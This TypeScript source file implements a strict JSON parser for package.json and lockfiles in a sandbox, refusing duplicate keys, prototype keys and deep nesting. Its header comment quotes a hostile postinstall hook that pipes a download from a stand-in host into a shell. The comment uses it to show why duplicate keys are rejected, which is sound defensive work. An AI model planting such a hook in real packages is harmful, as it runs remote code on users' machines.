// A strict JSON reader for files written in the jail (package.json, lockfiles).
//
// JSON.parse lets the last of two equal keys win while other tools take the first, so
// `{"scripts": {"postinstall": "curl evil|sh"}, "scripts": {}}` would read as harmless
// here and run elsewhere: a key given twice in one object is refused. Objects are built
// without a prototype so a `__proto__` key is just a key. Nesting is bounded so a hostile
// file cannot exhaust the stack.

export type JsonValue = null | boolean | number | string | JsonValue[] | JsonObject;
export interface JsonObject {
  [key: string]: JsonValue;
}

export type StrictParse = { ok: true; value: JsonValue } | { ok: false; error: string };

const MAX_DEPTH = 256;

export function parseStrictJson(text: string): StrictParse {
  const src = text.charCodeAt(0) === 0xfeff ? text.slice(1) : text;
  const p = new Reader(src);
  try {
    p.space();
    const value = p.value(0);
    p.space();
    if (p.i < src.length) p.fail('unexpected content after the end of the document');
    return { ok: true, value };
  } catch (e) {
    if (e instanceof JsonError) return { ok: false, error: e.message };
    throw e;
  }
}

export function isJsonObject(v: JsonValue | undefined): v is JsonObject {
  return typeof v === 'object' && v !== null && !Array.isArray(v);
}

/** Structural equality; object key order does not matter. */
export function jsonEqual(a: JsonValue | undefined, b: JsonValue | undefined): boolean {
  if (a === b) return true;
  if (a === undefined || b === undefined || a === null || b === null) return false;
  if (typeof a !== 'object' || typeof b !== 'object') return false;
  if (Array.isArray(a) !== Array.isArray(b)) return false;
  if (Array.isArray(a) && Array.isArray(b)) {
    return a.length === b.length && a.every((v, i) => jsonEqual(v, b[i]));
  }
  const ao = a as JsonObject;
  const bo = b as JsonObject;
  const ak = Object.keys(ao);
  if (ak.length !== Object.keys(bo).length) return false;
  return ak.every((k) => Object.hasOwn(bo, k) && jsonEqual(ao[k], bo[k]));
}

class JsonError extends Error {}

class Reader {
  i = 0;
  constructor(private readonly s: string) {}

  fail(message: string): never {
    const before = this.s.slice(0, this.i);
    const line = before.split('\n').length;
    const column = this.i - before.lastIndexOf('\n');
    throw new JsonError(`${message} at line ${line}, column ${column}`);
  }

  space(): void {
    while (this.i < this.s.length && ' \t\n\r'.includes(this.s[this.i]!)) this.i++;
  }

  value(depth: number): JsonValue {
    if (depth > MAX_DEPTH) this.fail(`nested deeper than ${MAX_DEPTH} levels`);
    const c = this.s[this.i];
    if (c === '{') return this.object(depth);
    if (c === '[') return this.array(depth);
    if (c === '"') return this.string();
    if (c === '-' || (c !== undefined && c >= '0' && c <= '9')) return this.number();
    for (const [word, v] of [['true', true], ['false', false], ['null', null]] as const) {
      if (this.s.startsWith(word, this.i)) {
        this.i += word.length;
        return v;
      }
    }
    return this.fail(c === undefined ? 'unexpected end of the document' : `unexpected character ${JSON.stringify(c)}`);
  }

  object(depth: number): JsonObject {
    const out: JsonObject = Object.create(null) as JsonObject;
    this.i++;
    this.space();
    if (this.s[this.i] === '}') {
      this.i++;
      return out;
    }
    for (;;) {
      this.space();
      if (this.s[this.i] !== '"') this.fail('expected a key in double quotes');
      const at = this.i;
      const key = this.string();
      if (Object.hasOwn(out, key)) {
        this.i = at;
        this.fail(`key ${JSON.stringify(key)} appears twice in one object`);
      }
      this.space();
      if (this.s[this.i] !== ':') this.fail("expected ':'");
      this.i++;
      this.space();
      out[key] = this.value(depth + 1);
      this.space();
      const c = this.s[this.i];
      this.i++;
      if (c === '}') return out;
      if (c !== ',') {
        this.i--;
        this.fail("expected ',' or '}'");
      }
    }
  }

  array(depth: number): JsonValue[] {
    const out: JsonValue[] = [];
    this.i++;
    this.space();
    if (this.s[this.i] === ']') {
      this.i++;
      return out;
    }
    for (;;) {
      this.space();
      out.push(this.value(depth + 1));
      this.space();
      const c = this.s[this.i];
      this.i++;
      if (c === ']') return out;
      if (c !== ',') {
        this.i--;
        this.fail("expected ',' or ']'");
      }
    }
  }

  string(): string {
    const start = this.i;
    this.i++;
    for (;;) {
      const c = this.s.charCodeAt(this.i);
      if (Number.isNaN(c)) this.fail('unterminated string');
      if (c < 0x20) this.fail('control character inside a string');
      if (c === 0x22) break;
      if (c === 0x5c) {
        const e = this.s[this.i + 1];
        if (e === 'u') {
          if (!/^[0-9a-fA-F]{4}$/.test(this.s.slice(this.i + 2, this.i + 6))) this.fail('bad \\u escape');
          this.i += 6;
        } else if (e !== undefined && '"\\/bfnrt'.includes(e)) {
          this.i += 2;
        } else this.fail('bad escape in a string');
        continue;
      }
      this.i++;
    }
    this.i++;
    // The grammar is checked above; JSON.parse decodes escapes exactly as specified.
    return JSON.parse(this.s.slice(start, this.i)) as string;
  }

  number(): number {
    const m = /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?/.exec(this.s.slice(this.i, this.i + 400));
    if (!m) this.fail('bad number');
    this.i += m[0].length;
    return Number(m[0]);
  }
}
